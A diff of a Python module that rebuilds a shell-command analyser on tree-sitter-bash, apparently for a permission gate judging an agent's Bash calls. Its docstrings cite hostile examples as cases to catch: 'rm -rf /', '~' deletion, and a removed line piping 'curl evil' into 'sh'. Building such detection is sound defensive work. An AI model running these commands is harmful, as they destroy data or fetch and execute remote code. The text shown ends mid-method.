@@ -1,362 +1,1040 @@
-"""Split a shell command line into the simple commands a scope rule must judge.
+"""The one shell analyser: what a bash command line runs, read with a real bash grammar.
 
-A rule like ``Bash(git status)`` must not allow ``git status && rm -rf /``, and
-``echo "$(curl evil | sh)"`` hides two more commands inside a quoted word. So we lex with
-the standard library's POSIX shell lexer (``shlex`` with punctuation characters, which
-keeps the hook's import path lean) and split on every control operator, and we look inside
-``$(...)`` and backticks recursively.
+Every judgement of a shell command (the gate, ``scope explain``, the detectors) goes through
+:func:`analyse`. It parses with tree-sitter-bash and walks the tree against an **allowlist**
+of constructs it models exactly (simple commands, lists, pipelines, subshells, ``{ }``
+groups, ``if``/``while``, quotes, plain redirections, here-documents it can verify). Any other
+construct — arithmetic, parameter-expansion operators, ``for``/``case``, functions,
+assignments that change the environment of later commands, ``eval``-like builtins with
+non-literal text, line continuations that join words, anything the grammar reports as an
+error — becomes a :attr:`Analysis.problems` entry. A command with problems is **never
+allowed by a rule** (the gate asks), but every command the grammar did find is still judged
+by the deny and ask rules: an unmodelled construct can only make a call stricter.
 
-Anything we cannot lex (an unbalanced quote, say) is reported as unparseable: the caller
-must then never *allow* the command on a rule, only ask or deny — fail closed.
+What runs is described as bash will run it: quotes removed, escapes resolved, ``$'...'``
+decoded, leading assignments and redirections set aside (and judged), wrappers (``sudo``,
+``env``, ``timeout``, ``xargs``, ``find -exec``…) looked through, ``bash -c``/``eval`` scripts
+parsed as command lines of their own. Redirection targets and the file arguments of known
+readers and writers become :class:`Access` records for the path rules.
+
+Pure and lean: no I/O, and the grammar is loaded straight from its extension module (the
+``tree_sitter_bash`` package's ``__init__`` imports ``importlib.resources``, ~15 ms the gate
+hook should not pay). Time is linear in the input: the tree is walked iteratively and a
+command over :data:`MAX_COMMAND_CHARS` is refused unread (a problem, so the gate asks).
 """
 
 from __future__ import annotations
 
 import re
-import shlex
+from collections.abc import Iterator
+from typing import Any
 
-#: Tokens that end one simple command and start another.
-SEPARATORS = frozenset(
-    {"&&", "||", ";", "|", "&", "|&", ";;", ";&", ";;&", "\n", "(", ")", "{", "}"}
-)
-_PUNCTUATION = "();<>|&\n"
-_ASSIGNMENT = re.compile(r"^[A-Za-z_][A-Za-z0-9_]*=")
-_MAX_DEPTH = 8
+#: Commands longer than this are not parsed at all: the gate asks, ingest records a problem.
+MAX_COMMAND_CHARS = 100_000
+#: ``bash -c`` / ``eval`` / wrapper scripts nested deeper than this are not modelled.
+MAX_DEPTH = 6
+
+#: Environment prefixes that never change what a program executes or where it writes.
+#: Any other ``NAME=value`` before a command means no allow rule matches it.
+SAFE_ENV = frozenset({
+    "LANG", "LANGUAGE", "TZ", "TERM", "COLUMNS", "LINES", "NO_COLOR", "FORCE_COLOR",
+    "CLICOLOR", "CLICOLOR_FORCE", "PYTHONUNBUFFERED", "PYTHONDONTWRITEBYTECODE", "CI",
+})  # fmt: skip
+_SAFE_ENV_PREFIXES = ("LC_",)
+
 #: Commands that run their arguments as another command: that command is judged too.
-_WRAPPERS = frozenset({
+WRAPPERS = frozenset({
     "sudo", "doas", "env", "nice", "nohup", "time", "timeout", "xargs", "command", "exec",
     "builtin", "stdbuf", "ionice", "setsid", "chrt", "taskset", "unbuffer", "flock",
-    "busybox",
+    "busybox", "coproc", "nsenter", "unshare", "chroot", "strace", "ltrace", "fakeroot",
+    "firejail", "proxychains", "proxychains4", "torsocks", "xvfb-run", "catchsegv",
+    "pkexec", "runuser", "sg", "caffeinate", "systemd-run", "watch", "script", "su",
 })  # fmt: skip
-#: Shells whose ``-c SCRIPT`` is parsed as a command line of its own.
-_SHELLS = frozenset({"bash", "sh", "zsh", "dash", "ksh", "mksh", "ash", "fish"})
-#: Reserved words that open a compound command: ``then rm -rf /`` runs ``rm``.
-_RESERVED = frozenset({"!", "if", "then", "elif", "else", "do", "while", "until", "coproc"})
-#: Words that only close one (nothing runs).
-_CLOSERS = frozenset({"fi", "done", "esac"})
 #: Options of a wrapper that take a value (``sudo -u root rm`` runs ``rm``, not ``root``).
 _WRAPPER_ARGS: dict[str, frozenset[str]] = {
-    "sudo": frozenset({"-u", "-g", "-C", "-p", "-r", "-t", "-U", "-D", "-h", "-T"}),
+    "sudo": frozenset({"-u", "-g", "-C", "-p", "-r", "-t", "-U", "-D", "-h", "-T", "-R"}),
     "doas": frozenset({"-u", "-C"}),
-    "env": frozenset({"-u", "-C", "-S", "--unset", "--chdir"}),
+    "env": frozenset({"-u", "-C", "-S", "--unset", "--chdir", "-P"}),
     "nice": frozenset({"-n", "--adjustment"}),
     "ionice": frozenset({"-c", "-n", "-p"}),
     "timeout": frozenset({"-s", "-k", "--signal", "--kill-after"}),
-    "xargs": frozenset({"-n", "-I", "-P", "-L", "-s", "-d", "-a", "-E", "-i"}),
-    "flock": frozenset({"-w", "-E", "-c"}),
+    "xargs": frozenset({"-n", "-I", "-P", "-L", "-s", "-d", "-a", "-E", "-i", "--max-args"}),
+    "flock": frozenset({"-w", "-E", "-c", "--timeout", "--conflict-exit-code"}),
     "exec": frozenset({"-a"}),
     "stdbuf": frozenset({"-i", "-o", "-e"}),
+    "chrt": frozenset({"-p"}),
+    "taskset": frozenset({"-p"}),
+    "nsenter": frozenset({"-t", "--target", "-S", "-G", "-r", "-w"}),
+    "strace": frozenset({"-o", "-e", "-p", "-s", "-u", "-E", "-a", "-b", "-I", "-O", "-S", "-X"}),
+    "ltrace": frozenset({"-o", "-e", "-p", "-s", "-u", "-n", "-a", "-l"}),
+    "runuser": frozenset({"-u", "-g", "-G", "-s", "--user", "--group"}),
+    "su": frozenset({"-s", "-g", "-G", "--shell", "--group"}),
+    "watch": frozenset({"-n", "-d", "--interval"}),
+    "systemd-run": frozenset({"-p", "-u", "--unit", "--property", "-E", "--setenv"}),
+    "firejail": frozenset(),
+    "script": frozenset({"-O", "-I", "-B", "-T", "-t", "-E", "-m"}),
 }
+#: Wrappers whose first operand is not the command (``chroot DIR cmd``, ``sg GROUP cmd``).
+_WRAPPER_OPERANDS = {"chroot": 1, "sg": 1, "taskset": 1, "chrt": 1}
+#: Wrappers that run a *string* as a shell script (``su -c SCRIPT``, ``watch 'cmd'``).
+_STRING_RUNNERS = {"su": "-c", "runuser": "-c", "script": "-c", "flock": "-c", "sg": "-c"}
+#: Shells whose ``-c SCRIPT`` is parsed as a command line of its own.
+SHELLS = frozenset({"bash", "sh", "zsh", "dash", "ksh", "mksh", "ash", "fish", "rbash", "yash"})
+#: Builtins that change how *later* text is read or run (aliases, traps, sourced files,
+#: shell options, hashed paths...): a command line using one is not modelled.
+UNMODELLED_BUILTINS = frozenset({
+    "trap", "alias", "unalias", "shopt", "enable", "hash", "let", "fc", "bind", "complete",
+    "compgen", "mapfile", "readarray", "declare", "typeset", "local", "readonly", "export",
+    "unset", "source", ".", "set", "history", "printf",
+})  # fmt: skip
 _DURATION = re.compile(r"^\d+(?:\.\d+)?[smhd]?$")
+_NAME = re.compile(r"^[A-Za-z_][A-Za-z0-9_]*$")
+_DELIMITER = re.compile(r"^[A-Za-z0-9_.+-]+$")
+_GLOB_CHARS = frozenset("*?[")
+
+# Node kinds the walk understands. Anything else is a problem (never allowed).
+_STRUCTURE = frozenset({
+    "program", "list", "pipeline", "command", "redirected_statement", "subshell",
+    "compound_statement", "negated_command", "comment", "if_statement", "elif_clause",
+    "else_clause", "while_statement", "do_group", "variable_assignment", "command_name",
+    "file_redirect", "heredoc_redirect", "herestring_redirect", "heredoc_start",
+    "heredoc_body", "heredoc_content", "heredoc_end", "file_descriptor",
+    "word", "string", "string_content", "raw_string", "concatenation", "number",
+    "ansi_c_string", "simple_expansion", "expansion", "variable_name",
+    "special_variable_name", "command_substitution", "process_substitution", "test_command",
+    "unary_expression", "binary_expression", "test_operator", "parenthesized_expression",
+})  # fmt: skip
+_TOKENS = frozenset({
+    ";", "&&", "||", "|", "|&", "&", "\n", "(", ")", "{", "}", "!", "$(", "`", "<(", ">(",
+    '"', "=", "+=", "if", "then", "fi", "elif", "else", "while", "until", "do", "done",
+    "${", "$", ">", ">>", "<", "&>", "&>>", ">&", "<&", ">|", "<<", "<<-", "<<<", ">&-",
+    "<&-", "[[", "]]", "==", "!=", "=~", "-eq", "-ne", "-lt", "-gt", "-le", "-ge", "-a",
+    "-o",
+})  # fmt: skip
+#: Inside ``[[ ]]``: literal operands only (``-eq`` evaluates its operands arithmetically, so
+#: ``[[ $x -eq 0 ]]`` with ``x='a[$(cmd)]'`` runs ``cmd``).
+_EXPANDING = frozenset({
+    "simple_expansion", "expansion", "command_substitution", "process_substitution",
+    "arithmetic_expansion",
+})  # fmt: skip
+_WRITE_OPS = frozenset({">", ">>", ">|", "&>", "&>>"})
+
+# ----------------------------------------------------------------------------- data
 
 
 class ShellParseError(ValueError):
-    """The command line could not be lexed; treat it as never auto-allowable."""
+    """The command line could not be modelled; kept for callers that want an exception."""
 
 
-_HEREDOC_WORD_END = " \t\n;&|<>()"
+class Word:
+    """One shell word as bash will see it after quote removal.
 
-
-def _heredoc_word(command: str, i: int) -> tuple[str, bool, int]:
-    r"""The delimiter word of a here-document starting at ``i``: ``(delimiter, quoted, end)``.
-    A quoted delimiter (``'EOF'``, ``"EOF"``, ``\EOF``) makes the body literal data."""
-    while i < len(command) and command[i] in " \t":
-        i += 1
-    word: list[str] = []
-    quoted = False
-    while i < len(command) and command[i] not in _HEREDOC_WORD_END:
-        ch = command[i]
-        if ch in "'\"":
-            close = command.find(ch, i + 1)
-            if close < 0:
-                raise ShellParseError("unterminated quote in a here-document delimiter")
-            word.append(command[i + 1 : close])
-            quoted, i = True, close + 1
-            continue
-        if ch == "\\" and i + 1 < len(command):
-            word.append(command[i + 1])
-            quoted, i = True, i + 2
-            continue
-        word.append(ch)
-        i += 1
-    if not word:
-        raise ShellParseError("here-document without a delimiter")
-    return "".join(word), quoted, i
-
-
-def _prepare(command: str) -> str:
-    """``command`` without what the shell does not run as commands: ``# comments`` and the
-    bodies of here-documents with a quoted delimiter. One scan that knows quotes, ``$(...)``
-    (a fresh context, also inside double quotes), backticks and arithmetic ``$((...))``, so
-    ``echo '<<X'`` or ``$((1<<X))`` cannot hide the lines after them.
-
-    Raises :class:`ShellParseError` (never auto-allowed) for what it cannot judge safely:
-    ANSI-C quoting (``$'...'``), and a here-document with an unquoted delimiter whose body
-    runs command substitutions.
+    ``static`` is False when the value depends on run time (an expansion, a substitution,
+    brace expansion, ``~user``); ``value`` is then the source text, good for deny matching
+    and display but never for allowing. ``glob`` marks unquoted ``*?[`` (bash expands it
+    against the file system); ``tilde`` an unquoted leading ``~`` (the home directory).
     """
-    out: list[str] = []
-    stack: list[str] = [""]  # "" top level, "(" inside $( ), '"' double quotes, "`", "(("
-    pending: list[tuple[str, bool, bool]] = []  # here-documents waiting for their body
-    i, n = 0, len(command)
-    while i < n:
-        ch, ctx = command[i], stack[-1]
-        if ctx == '"':
-            if ch == "\\" and i + 1 < n:
-                out.append(command[i : i + 2])
-                i += 2
-                continue
-            if ch == '"':
-                stack.pop()
-            elif command.startswith("$((", i):
-                stack.append("((")
-                out.append("$((")
-                i += 3
-                continue
-            elif command.startswith("$(", i):
-                stack.append("(")
-                out.append("$(")
-                i += 2
-                continue
-            elif ch == "`":
-                stack.append("`")
-            out.append(ch)
-            i += 1
-            continue
-        if ctx == "((":  # arithmetic: no comments, no here-documents
-            if command.startswith("))", i):
-                stack.pop()
-                out.append("))")
-                i += 2
-                continue
-            out.append(ch)
-            i += 1
-            continue
-        # top level, inside $( ), or inside backticks: the shell's own grammar
-        if ch == "\\" and i + 1 < n:
-            out.append(command[i : i + 2])
-            i += 2
-            continue
-        if ch == "'":
-            close = command.find("'", i + 1)
-            if close < 0:
-                raise ShellParseError("unterminated single quote")
-            out.append(command[i : close + 1])
-            i = close + 1
-            continue
-        if command.startswith("$'", i):
-            raise ShellParseError("ANSI-C quoting ($'...') is not judged")
-        if ch == '"':
-            stack.append('"')
-        elif command.startswith("$((", i) or (command.startswith("((", i) and ctx == ""):
-            width = 3 if ch == "$" else 2
-            stack.append("((")
-            out.append(command[i : i + width])
-            i += width
-            continue
-        elif command.startswith("$(", i):
-            stack.append("(")
-            out.append("$(")
-            i += 2
-            continue
-        elif ch == ")" and ctx == "(":
-            stack.pop()
-        elif ch == "`":
-            if ctx == "`":
-                stack.pop()
-            else:
-                stack.append("`")
-        elif ch == "#" and (i == 0 or command[i - 1] in " \t\n;&|("):
-            end = command.find("\n", i)
-            i = n if end < 0 else end
-            continue
-        elif command.startswith("<<<", i):  # a here-string: its word is on this line
-            out.append("<<<")
-            i += 3
-            continue
-        elif command.startswith("<<", i):
-            strip_tabs = command.startswith("<<-", i)
-            start = i + (3 if strip_tabs else 2)
-            delimiter, quoted, i = _heredoc_word(command, start)
-            pending.append((delimiter, quoted, strip_tabs))
-            out.append(command[start - (3 if strip_tabs else 2) : i])
-            continue
-        elif ch == "\n" and pending:
-            out.append("\n")
-            i = _skip_bodies(command, i + 1, pending)
-            pending.clear()
-            continue
-        out.append(ch)
-        i += 1
-    return "".join(out)
+
+    __slots__ = ("glob", "raw", "static", "tilde", "value")
+
+    def __init__(
+        self, value: str, raw: str, static: bool = True, glob: bool = False, tilde: bool = False
+    ) -> None:
+        self.value = value
+        self.raw = raw
+        self.static = static
+        self.glob = glob
+        self.tilde = tilde
+
+    def __repr__(self) -> str:
+        flags = "".join(f for f, on in (("~", self.tilde), ("*", self.glob)) if on)
+        return f"Word({self.value!r}{'' if self.static else ', dynamic'}{flags and ', ' + flags})"
 
 
-def _skip_bodies(command: str, i: int, pending: list[tuple[str, bool, bool]]) -> int:
-    """Skip the bodies of ``pending`` here-documents, which start at ``i``; return where
-    the command line continues."""
-    for delimiter, quoted, strip_tabs in pending:
-        while i < len(command):
-            end = command.find("\n", i)
-            line = command[i:] if end < 0 else command[i:end]
-            i = len(command) if end < 0 else end + 1
-            if (line.lstrip("\t") if strip_tabs else line) == delimiter:
-                break
-            if not quoted and ("$(" in line or "`" in line):
-                raise ShellParseError("a here-document body runs command substitutions")
-    return i
+class Access:
+    """A file the command line reads or writes: a redirection target or the file argument
+    of a known reader or writer. ``mode`` is ``read``, ``write`` or ``egress`` (a
+    ``/dev/tcp`` or ``/dev/udp`` path, or a ``host:path`` copy target). ``word`` is None when
+    the path is not known at all (``find -delete``, ``tar -x``, ``xargs rm``)."""
+
+    __slots__ = ("mode", "via", "word")
+
+    def __init__(self, mode: str, word: Word | None, via: str) -> None:
+        self.mode = mode
+        self.word = word
+        self.via = via
+
+    def __repr__(self) -> str:
+        return f"Access({self.mode}, {self.word!r}, via={self.via!r})"
 
 
-def _substitutions(word: str) -> list[str]:
-    """Return the bodies of ``$(...)`` and backtick substitutions inside one word."""
-    found: list[str] = []
-    i = 0
-    while i < len(word):
-        if word.startswith("$(", i) and not word.startswith("$((", i):
-            depth, j = 1, i + 2
-            while j < len(word) and depth:
-                if word[j] == "(":
-                    depth += 1
-                elif word[j] == ")":
-                    depth -= 1
-                j += 1
-            found.append(word[i + 2 : j - 1] if depth == 0 else word[i + 2 :])
-            i = j
-        elif word[i] == "`":
-            j = word.find("`", i + 1)
-            found.append(word[i + 1 :] if j < 0 else word[i + 1 : j])
-            i = len(word) if j < 0 else j + 1
-        else:
-            i += 1
-    return found
+class Command:
+    """One simple command as bash runs it."""
+
+    __slots__ = ("assignments", "exact", "redirects", "via", "words")
+
+    def __init__(
+        self,
+        words: list[Word],
+        assignments: list[tuple[str, Word]],
+        via: tuple[str, ...] = (),
+        exact: bool = True,
+    ) -> None:
+        self.words = words
+        #: ``(operator, target)`` of its redirections, for display and the detectors (the
+        #: files they reach are :attr:`Analysis.accesses`)
+        self.redirects: list[tuple[str, str]] = []
+        #: ``NAME=value`` prefixes (``NAME+=`` included), name and value
+        self.assignments = assignments
+        #: the wrappers it was found under (``sudo``, ``bash -c``, ``$(...)``…)
+        self.via = via
+        #: False when bash adds arguments we cannot see (``xargs CMD``, ``find -exec``)
+        self.exact = exact
+
+    @property
+    def text(self) -> str:
+        """The words joined by one space, as written (what allow rules match)."""
+        return " ".join(w.value for w in self.words)
+
+    @property
+    def name(self) -> str:
+        return self.words[0].value if self.words else ""
+
+    @property
+    def basename(self) -> str:
+        """The program's name without its directory (``/bin/rm`` → ``rm``)."""
+        return program_name(self.name)
+
+    @property
+    def deny_texts(self) -> tuple[str, ...]:
+        """Every spelling a deny or ask rule must see: as written, and with the program's
+        path dropped (``/bin/rm -rf ~`` is ``rm -rf ~`` to ``Bash(rm:*)``)."""
+        text = self.text
+        base = self.basename
+        if not self.words or base == self.name:
+            return (text,)
+        return (text, " ".join([base, *(w.value for w in self.words[1:])]))
+
+    @property
+    def unsafe_env(self) -> list[str]:
+        """Names of prefixes that may change what runs (``LD_PRELOAD``, ``GIT_*``, ``PATH``…)."""
+        return [n for n, v in self.assignments if not (is_safe_env(n) and v.static)]
+
+    @property
+    def allowable(self) -> bool:
+        """Whether an allow rule may match: every word known, no risky prefix, all args seen."""
+        return (
+            self.exact
+            and bool(self.words)
+            and all(w.static for w in self.words)
+            and not self.words[0].glob
+            and not self.unsafe_env
+        )
+
+    @property
+    def full_text(self) -> str:
+        """Prefixes and words, as a session grant must cover them exactly."""
+        prefix = [f"{n}={v.value}" for n, v in self.assignments]
+        return " ".join([*prefix, *(w.value for w in self.words)])
+
+    def __repr__(self) -> str:
+        return f"Command({self.full_text!r}{'' if self.allowable else ', not allowable'})"
 
 
-def _lex(command: str) -> list[str]:
-    lexer = shlex.shlex(command, posix=True, punctuation_chars=_PUNCTUATION)
-    lexer.whitespace = " \t\r"
-    lexer.whitespace_split = True
-    lexer.commenters = ""  # handled below: shlex's comments would swallow the newline
-    try:
-        return list(lexer)
-    except ValueError as exc:
-        raise ShellParseError(f"cannot parse shell command: {exc}") from None
+class Analysis:
+    """Everything one command line runs and touches, and what could not be modelled."""
+
+    __slots__ = ("accesses", "cd_targets", "commands", "data", "problems")
+
+    def __init__(self) -> None:
+        self.commands: list[Command] = []
+        #: here-document bodies and here-strings: text fed to a command, never run by bash
+        self.data: list[str] = []
+        self.accesses: list[Access] = []
+        #: reasons the line is not modelled exactly; non-empty → never allowed by a rule
+        self.problems: list[str] = []
+        #: every ``cd``/``pushd`` target (None: unknown), in order: relative paths may be
+        #: relative to any of them
+        self.cd_targets: list[Word | None] = []
+
+    @property
+    def exact(self) -> bool:
+        return not self.problems
+
+    def problem(self, reason: str) -> None:
+        if reason not in self.problems:
+            self.problems.append(reason)
+
+    def __repr__(self) -> str:
+        return f"Analysis({self.commands!r}, accesses={self.accesses!r}, problems={self.problems!r})"
 
 
-def simple_commands(command: str, _depth: int = 0) -> list[str]:
-    """Return every simple command in ``command`` as normalised text (words joined by one space).
-
-    Quotes are removed (so ``git "push" --force`` is judged as ``git push --force``), leading
-    ``VAR=value`` assignments are dropped, and substituted commands are listed after the
-    command that contains them.
-    """
-    if _depth > _MAX_DEPTH:
-        raise ShellParseError("command substitutions nested too deeply")
-    tokens = _lex(_prepare(command))
-    commands: list[str] = []
-    nested: list[str] = []
-    words: list[str] = []
-
-    def flush() -> None:
-        while words and words[0] in _RESERVED:
-            words.pop(0)
-        while words and _ASSIGNMENT.match(words[0]) and len(words) > 1:
-            words.pop(0)
-        if len(words) == 1 and words[0] in _CLOSERS:
-            words.clear()
-        if words:
-            commands.append(" ".join(words))
-            for inner in _unwrapped(words):
-                commands.append(" ".join(inner))
-                nested.extend(_scripts(inner, _depth))  # sudo -u root bash -c '...'
-            nested.extend(_scripts(words, _depth))
-            for script in _split_strings(words):
-                nested.extend(simple_commands(script, _depth + 1))
-        words.clear()
-
-    for token in tokens:
-        if token in SEPARATORS or (
-            # '<(' and '>(' (process substitution), '((': grouped punctuation opening a command
-            ("(" in token or ")" in token) and not token.strip(_PUNCTUATION)
-        ):
-            flush()
-            continue
-        words.append(token)
-        if "$(" in token or "`" in token:
-            for body in _substitutions(token):
-                nested.extend(simple_commands(body, _depth + 1))
-    flush()
-    return commands + nested
+def is_safe_env(name: str) -> bool:
+    return name in SAFE_ENV or name.startswith(_SAFE_ENV_PREFIXES)
 
 
-def _name(word: str) -> str:
+def program_name(word: str) -> str:
     return word.rsplit("/", 1)[-1]
 
 
-def _unwrapped(words: list[str]) -> list[list[str]]:
-    """``sudo rm -rf x`` also runs ``rm -rf x``: return each command a wrapper runs.
+# ----------------------------------------------------------------------------- grammar
 
-    These are *extra* parts: a deny rule on ``rm`` catches them, and an allow needs every
-    part allowed, so wrapping never turns a refused command into an allowed one.
-    """
-    found: list[list[str]] = []
-    rest = words
-    while rest and _name(rest[0]) in _WRAPPERS:
-        wrapper, rest = _name(rest[0]), rest[1:]
-        takes_value = _WRAPPER_ARGS.get(wrapper, frozenset())
-        while rest and (
-            rest[0].startswith("-")
-            or _ASSIGNMENT.match(rest[0])
-            or (wrapper == "timeout" and _DURATION.match(rest[0]))
-        ):
-            rest = rest[2:] if rest[0] in takes_value else rest[1:]
-        if rest:
-            found.append(rest)
-    # find -exec / -execdir / -ok CMD ... {} ;  runs CMD on every match.
-    if words and _name(words[0]) == "find":
-        for i, word in enumerate(words):
-            if word in ("-exec", "-execdir", "-ok", "-okdir") and i + 1 < len(words):
-                command = []
-                for arg in words[i + 1 :]:
-                    if arg in (";", "+"):
-                        break
-                    command.append(arg)
-                if command:
-                    found.append(command)
-    return found
+_PARSER: Any = None
 
 
-def _split_strings(words: list[str]) -> list[str]:
-    """``env -S 'rm -rf /'``: the string env splits into a command line of its own."""
-    found: list[str] = []
-    for i, word in enumerate(words[:-1] if words else []):
-        if _name(words[0]) != "env":
+def _parser() -> Any:
+    """tree-sitter's parser for bash, loaded once; straight from the grammar's extension
+    module so the package ``__init__`` (and its ``importlib.resources``) is never run."""
+    global _PARSER
+    if _PARSER is None:
+        import importlib.machinery
+        import importlib.util
+        import os
+        import sys
+
+        import tree_sitter
+
+        binding = sys.modules.get("tree_sitter_bash._binding")
+        if binding is None:
+            spec = importlib.util.find_spec("tree_sitter_bash")
+            if spec is None or not spec.submodule_search_locations:
+                raise ImportError("tree-sitter-bash is not installed")
+            folder = next(iter(spec.submodule_search_locations))
+            found = [n for n in os.listdir(folder) if n.startswith("_binding.")]
+            if not found:
+                raise ImportError("tree-sitter-bash has no compiled grammar")
+            path = os.path.join(folder, found[0])
+            loader = importlib.machinery.ExtensionFileLoader("tree_sitter_bash._binding", path)
+            module_spec = importlib.util.spec_from_file_location(
+                "tree_sitter_bash._binding", path, loader=loader
+            )
+            assert module_spec is not None
+            binding = importlib.util.module_from_spec(module_spec)
+            loader.exec_module(binding)
+        _PARSER = tree_sitter.Parser(tree_sitter.Language(binding.language()))
+    return _PARSER
+
+
+# ----------------------------------------------------------------------------- entry
+
+
+def analyse(command: str) -> Analysis:
+    """Everything ``command`` runs, as bash would read it, and what could not be modelled."""
+    analysis = Analysis()
+    _analyse_into(analysis, command, (), 0)
+    return analysis
+
+
+def simple_commands(command: str, strict: bool = True) -> list[str]:
+    """The text of every simple command in ``command``, its redirections at the end (``op
+    target``; a here-document or here-string is its operator alone), for the detectors.
+    ``strict``: raise :class:`ShellParseError` when
+    the line is not modelled exactly (otherwise return what was found)."""
+    analysis = analyse(command)
+    if analysis.problems and strict:
+        raise ShellParseError(analysis.problems[0])
+    out = [
+        " ".join([c.text, *(f"{op} {target}" for op, target in c.redirects)])
+        for c in analysis.commands
+        if c.words
+    ]
+    return out
+
+
+def _analyse_into(analysis: Analysis, command: str, via: tuple[str, ...], depth: int) -> None:
+    if depth > MAX_DEPTH:
+        analysis.problem("scripts nested too deeply")
+        return
+    if len(command) > MAX_COMMAND_CHARS:
+        analysis.problem(f"command longer than {MAX_COMMAND_CHARS} characters is not judged")
+        return
+    if "\x00" in command:
+        analysis.problem("NUL byte in the command")
+        return
+    src = command.encode("utf-8", "surrogatepass")
+    tree = _parser().parse(src)
+    _Walk(analysis, src, via, depth).run(tree.root_node)
+
+
+class _Walk:
+    """One pass over one parsed command line."""
+
+    __slots__ = ("analysis", "depth", "src", "via")
+
+    def __init__(self, analysis: Analysis, src: bytes, via: tuple[str, ...], depth: int) -> None:
+        self.analysis = analysis
+        self.src = src
+        self.via = via
+        self.depth = depth
+
+    def text(self, node: Any) -> str:
+        return self.src[node.start_byte : node.end_byte].decode("utf-8", "surrogateescape")
+
+    def run(self, root: Any) -> None:
+        literal_spans: list[tuple[int, int]] = []
+        for node in _nodes(root):
+            kind = node.type
+            if node.is_error or node.is_missing or kind == "ERROR":
+                self.analysis.problem("the bash grammar reports a syntax error")
+                continue
+            if not node.is_named:
+                if kind not in _TOKENS:
+                    self.analysis.problem(f"{kind!r} is not modelled")
+                continue
+            if kind not in _STRUCTURE:
+                self.analysis.problem(f"{kind.replace('_', ' ')} is not modelled")
+                continue
+            if kind in ("raw_string", "comment", "ansi_c_string", "string"):
+                literal_spans.append((node.start_byte, node.end_byte))
+            if kind == "command":
+                self.command(node)
+            elif kind == "variable_assignment" and node.parent is not None:
+                if node.parent.type != "command":  # a bare assignment: later commands see it
+                    name, value = self.assignment(node)
+                    if not (name and is_safe_env(name) and value.static):
+                        self.analysis.problem(
+                            f"assignment to {name or 'a variable'} changes later commands"
+                        )
+            elif kind == "compound_statement" and not self.src.startswith(b"{", node.start_byte):
+                self.analysis.problem("arithmetic command (( )) is not modelled")
+            elif kind == "expansion":
+                self.expansion(node)
+            elif kind == "test_command":
+                if any(n.type in _EXPANDING for n in _nodes(node)):
+                    self.analysis.problem("[[ ]] with expansions is not modelled")
+            elif kind in ("file_redirect", "herestring_redirect"):
+                self.redirect(node)
+            elif kind == "heredoc_redirect":
+                body = self.heredoc(node)
+                if body is not None:
+                    literal_spans.append(body)
+        self.continuations(literal_spans)
+
+    # -- pieces -----------------------------------------------------------------------
+
+    def continuations(self, literal: list[tuple[int, int]]) -> None:
+        r"""``r\<newline>m`` is ``rm`` to bash; the grammar reads two words. A line
+        continuation between two non-blank characters, outside quotes and literal
+        here-document bodies, is not modelled."""
+        src = self.src
+        start = 0
+        while True:
+            at = src.find(b"\\\n", start)
+            if at < 0:
+                return
+            start = at + 2
+            slashes = 0
+            while at - slashes >= 0 and src[at - slashes] == 0x5C:
+                slashes += 1
+            if slashes % 2 == 0:
+                continue  # an escaped backslash, then a newline
+            if any(a <= at < b for a, b in literal):
+                continue
+            before = src[at - 1 : at] if at > 0 else b" "
+            end = at + 2
+            while src.startswith(b"\\\n", end):
+                end += 2
+            after = src[end : end + 1] or b" "
+            if before not in (b" ", b"\t", b"\n") and after not in (b" ", b"\t", b"\n"):
+                self.analysis.problem("a line continuation joins two words")
+                return
+
+    def expansion(self, node: Any) -> None:
+        """``${x}`` is modelled (its value is unknown); operators (``${x:-$(cmd)}``,
+        ``${x@P}``, ``${!x}``, ``${#x}``…) are not."""
+        kinds = [c.type for c in node.children]
+        if kinds not in (["${", "variable_name", "}"], ["${", "special_variable_name", "}"]):
+            self.analysis.problem("parameter expansion operators are not modelled")
+
+    def assignment(self, node: Any) -> tuple[str, Word]:
+        name = ""
+        value = Word("", "")
+        seen_op = False
+        for child in node.children:
+            if child.type == "variable_name" and not seen_op:
+                name = self.text(child)
+            elif child.type in ("=", "+="):
+                seen_op = True
+                if child.type == "+=":
+                    name = name  # ``a+=x`` appends: still an assignment of ``a``
+            elif child.type == "subscript":
+                self.analysis.problem("array subscripts are not modelled")
+                name = name or self.text(child)
+            elif seen_op:
+                value = self.word(child)
+        if not name:
+            self.analysis.problem("an assignment this analyser cannot read")
+        return name, value
+
+    def command(self, node: Any) -> None:
+        assignments: list[tuple[str, Word]] = []
+        words: list[Word] = []
+        for child in node.children:
+            kind = child.type
+            if kind == "variable_assignment":
+                assignments.append(self.assignment(child))
+            elif kind in ("file_redirect", "herestring_redirect", "heredoc_redirect"):
+                continue  # judged by run() as a node of its own
+            elif kind == "command_name":
+                inner = child.named_children
+                words.append(self.word(inner[0]) if inner else Word("", ""))
+            elif child.is_named and kind != "comment":
+                words.append(self.word(child))
+        redirects = [c for c in node.children if c.type.endswith("redirect")]
+        owner = _redirected_statement_of(node)
+        if owner is not None:
+            # ``cat > out .env``: the grammar files ``.env`` under the redirection; bash
+            # hands it to ``cat``.
+            siblings = [c for c in owner.children[1:] if c.type.endswith("redirect")]
+            for sibling in siblings:
+                if sibling.type == "file_redirect":
+                    words.extend(self.word(w) for w in sibling.named_children[1:])
+            redirects += siblings
+        cmd = Command(words, assignments, self.via)
+        for redirect in redirects:
+            op = next((c.type for c in redirect.children if not c.is_named), "")
+            if redirect.type != "file_redirect":
+                cmd.redirects.append((op, ""))  # here-document or here-string: data
+                continue
+            target = next((c for c in redirect.named_children if c.type != "file_descriptor"), None)
+            if target is not None:
+                cmd.redirects.append((op, self.word(target).value))
+        self.add(cmd, self.via, self.depth)
+
+    def add(self, cmd: Command, via: tuple[str, ...], depth: int) -> None:
+        """Record ``cmd`` and everything it runs in turn (wrappers, scripts, file access)."""
+        analysis = self.analysis
+        analysis.commands.append(cmd)
+        if not cmd.words:
+            return
+        head = cmd.words[0]
+        if not head.static or head.glob:
+            analysis.problem(f"the program name {head.raw[:40]!r} is not known until run time")
+            return
+        name = cmd.basename
+        if name in UNMODELLED_BUILTINS:
+            analysis.problem(f"{name!r} changes how later commands are read")
+        if name in ("cd", "pushd", "popd"):
+            target = next((w for w in cmd.words[1:] if not w.value.startswith("-")), None)
+            if name == "popd" or (target is not None and not target.static):
+                analysis.cd_targets.append(None)
+            else:
+                analysis.cd_targets.append(target or Word("~", "~", tilde=True))
+        if depth >= MAX_DEPTH:
+            analysis.problem("wrappers nested too deeply")
+            return
+        for access in file_accesses(cmd):
+            analysis.accesses.append(access)
+        if name == "eval":
+            self.script(cmd.words[1:], (*via, "eval"), depth, joined=True)
+            return
